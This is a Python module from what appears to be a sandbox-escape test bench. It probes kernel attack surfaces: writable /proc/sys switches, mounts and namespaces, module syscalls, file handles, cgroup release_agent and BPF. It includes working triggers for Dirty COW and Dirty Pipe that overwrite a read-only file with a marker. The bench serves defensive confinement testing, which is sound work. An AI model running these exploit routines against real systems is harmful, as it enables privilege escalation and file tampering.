"""Attempts at the kernel: capabilities, modules, parameters, control groups, and flaws once made public."""

from __future__ import annotations

from lab.bench.escapes.script import python
from lab.bench.escapes.target import SECRET_FORM, Attempt, Target

_MARK = "ESCAPED!"


def parameters(_target: Target) -> str:
    """Open parameters of the kernel for writing, without writing."""
    return """
for switch in kernel/core_pattern kernel/modprobe kernel/hotplug kernel/poweroff_cmd kernel/shm_rmid_forced \\
        vm/panic_on_oom fs/suid_dumpable fs/binfmt_misc/register kernel/sysrq kernel/ns_last_pid; do
    { : >> "/proc/sys/$switch"; } 2>/dev/null && breach "opens /proc/sys/$switch for writing"
done
for switch in /proc/sysrq-trigger /sys/kernel/uevent_helper /sys/power/state; do
    { : >> "$switch"; } 2>/dev/null && breach "opens $switch for writing"
done
find /proc/sys -type f 2>/dev/null | while read -r switch; do
    { : >> "$switch"; } 2>/dev/null && breach "opens $switch for writing"
done | head -n 5
"""


def mount_rights(target: Target) -> str:
    """Mount, enter or replace a file system, with the existing rights and with the rights of new namespaces."""
    folder = str(target.writable[0])
    code = f"""
folder = {folder!r}.encode()
def try_mounts(where):
    if libc.mount(b"tmpfs", folder, b"tmpfs", 0, None) == 0: breach("mounts", where)
    if libc.mount(b"/", folder, None, 4096, None) == 0: breach("binds", where)
    if libc.mount(None, b"/", None, 32 | 4096, None) == 0: breach("remounts", where)
    if libc.umount2(b"/usr", 2) == 0: breach("unmounts", where)
    if libc.chroot(folder) == 0: breach("changes its root", where)
    if os.uname().machine == "x86_64":
        for name, number in (("pivot_root", 155), ("open_tree", 428), ("fsopen", 430), ("fspick", 433)):
            given = (-100, b"/", 1) if number == 428 else (b"tmpfs", 0) if number == 430 else (-100, b"/", 0)
            done, _ = syscall(number, *given)
            if done >= 0: breach(name, where)
try_mounts("as it is")
for name, flags in (("user and mount", 0x10020000), ("mount", 0x20000), ("user", 0x10000000), ("all", 0x7E020000)):
    child = os.fork()
    if child == 0:
        if libc.unshare(flags) == 0: try_mounts("in namespaces of its own: " + name)
        os._exit(0)
    os.waitpid(child, 0)
try: spaces = os.listdir("/proc/1/ns")
except OSError as error: spaces = []
for name in spaces:
    try: opened = os.open("/proc/1/ns/" + name, os.O_RDONLY)
    except OSError as error: print("held:", error); continue
    if os.readlink("/proc/1/ns/" + name) != os.readlink("/proc/self/ns/" + name) and libc.setns(opened, 0) == 0:
        breach("enters the namespace", name)
"""
    return python(code)


def modules(_target: Target) -> str:
    """Load a module from no file: the kernel's answer says whether a real module would have been loaded."""
    code = """
import errno
if os.uname().machine == "x86_64":
    for name, number in (("init_module", 175), ("finit_module", 313), ("delete_module", 176), ("kexec_load", 246)):
        done, fault = syscall(number, -1, -1, -1, -1)
        if done >= 0 or fault not in (errno.EPERM, errno.ENOSYS): breach("reaches", name, errno.errorcode.get(fault))
"""
    return "modprobe -q dummy 2>/dev/null && breach 'loads a module'\n" + python(code)


def handles(target: Target) -> str:
    """Open files by their handles (CAP_DAC_READ_SEARCH), without any path or permission."""
    code = f"""
import re
class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]
handle, mount = Handle(128), ctypes.c_int()
if os.uname().machine == "x86_64" and syscall(303, -100, b".", ctypes.byref(handle), ctypes.byref(mount), 0)[0] == 0:
    here = os.open(".", os.O_RDONLY)
    if syscall(304, here, ctypes.byref(handle), os.O_RDONLY)[0] >= 0: breach("opens a folder by its handle")
    for number in (2, 64, 128):
        root = Handle(8, 1, (ctypes.c_ubyte * 128)(*number.to_bytes(4, "little"), 0, 0, 0, 0))
        done, fault = syscall(304, here, ctypes.byref(root), os.O_RDONLY)
        if done >= 0: breach("opens the root of the file system by its handle")
try:
    if re.search({SECRET_FORM!r}, open({str(target.secret)!r}).read()): breach("reads whatever the permissions are")
except OSError as error: print("held:", error)
"""
    return python(code)


def release_agent(target: Target) -> str:
    """Have the kernel run a program outside, by control groups of the first version, without writing."""
    folder = target.writable[0]
    return (
        f"""
mkdir -p '{folder}/groups'
for kind in memory rdma cpuset pids; do
    mount -t cgroup -o $kind cgroup '{folder}/groups' 2>/dev/null && breach "mounts control groups of $kind"
    unshare -UrmC mount -t cgroup -o $kind cgroup '{folder}/groups' 2>/dev/null && breach "has groups of $kind"
done
mount -t cgroup2 cgroup2 '{folder}/groups' 2>/dev/null && breach "mounts control groups"
rmdir '{folder}/groups' 2>/dev/null
find /sys/fs/cgroup \\( -name release_agent -o -name cgroup.procs -o -name tasks -o -name notify_on_release \\) \\
        2>/dev/null | head -n 200 | while read -r file; do
    """
        """{ : >> "$file"; } 2>/dev/null && breach "opens $file for writing"
done
mkdir /sys/fs/cgroup/escaped 2>/dev/null && rmdir /sys/fs/cgroup/escaped && breach "makes a control group"
"""
    )


def bpf(_target: Target) -> str:
    """Have the kernel's verifier judge a program."""
    code = """
import errno
def try_(where):
    if os.uname().machine != "x86_64": return
    table = struct.pack("IIII", 2, 4, 4, 1) + bytes(112)
    if syscall(321, 0, ctypes.create_string_buffer(table), 128)[0] >= 0: breach("makes a map", where)
    code = ctypes.create_string_buffer(bytes.fromhex("b700000000000000" "9500000000000000"))
    license = ctypes.create_string_buffer(b"GPL")
    given = struct.pack("IIQQ", 1, 2, ctypes.addressof(code), ctypes.addressof(license)) + bytes(104)
    if syscall(321, 5, ctypes.create_string_buffer(given), 128)[0] >= 0: breach("has a program verified", where)
try_("as it is")
child = os.fork()
if child == 0:
    if libc.unshare(0x10000000) == 0: try_("in a namespace of its own")
    os._exit(0)
os.waitpid(child, 0)
"""
    return python(code)


def copy_race(target: Target) -> str:
    """Write to a read-only file, by a race of copy-on-write (CVE-2016-5195)."""
    code = f"""
import mmap, threading, time
path, mark = {str(target.readable)!r}, b"{_MARK}"
file = os.open(path, os.O_RDONLY)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
place = libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_PRIVATE, file, 0)
until = time.monotonic() + 0.5
def advise():
    while time.monotonic() < until: libc.madvise(place, 4096, 4)
def write():
    try: memory = os.open("/proc/self/mem", os.O_RDWR)
    except OSError as error: return print("held:", error)
    while time.monotonic() < until:
        try: os.pwrite(memory, mark, place)
        except OSError as error: return print("held:", error)
threads = [threading.Thread(target=each) for each in (advise, write)]
for each in threads: each.start()
for each in threads: each.join()
if mark in open(path, "rb").read(4096): breach("changes a file that it may only read")
"""
    return python(code)


def pipe_flag(target: Target) -> str:
    """Write to a read-only file, by a pipe that takes over pages (CVE-2022-0847)."""
    code = f"""
path, mark = {str(target.readable)!r}, b"{_MARK}"
file = os.open(path, os.O_RDONLY)
out, into = os.pipe()
room = 65536
for _ in range(room // 4096): os.write(into, bytes(4096))
for _ in range(room // 4096): os.read(out, 4096)
try:
    os.splice(file, into, 1, offset_src=0)
    os.write(into, mark)
except OSError as error: print("held:", error)
if mark in open(path, "rb").read(4096): breach("changes a file that it may only read")
"""
    return python(code)


def packets(_target: Target) -> str:
    """Open a packet socket (CVE-2020-14386), with the existing rights and with the rights of new namespaces."""
    code = """
def try_(where):
    for family, kind, protocol in ((17, 3, 0x0300), (17, 2, 0x0300), (2, 3, 1)):
        try: socket.socket(family, kind, protocol); breach("has a packet socket", family, where)
        except OSError as error: print("held:", error)
try_("as it is")
child = os.fork()
if child == 0:
    if libc.unshare(0x50000000) == 0: try_("in namespaces of its own")
    os._exit(0)
os.waitpid(child, 0)
"""
    return python(code)


ON_KERNEL = (
    Attempt(name="kernel parameters", command=parameters),
    Attempt(name="mount rights", command=mount_rights),
    Attempt(name="kernel modules", command=modules),
    Attempt(name="file handles", command=handles, works_bare=True),
    Attempt(name="release agent", command=release_agent),
    Attempt(name="programs for the verifier", command=bpf),
    Attempt(name="copy-on-write race", command=copy_race),
    Attempt(name="flag of a pipe", command=pipe_flag),
    Attempt(name="packet sockets", command=packets),
)
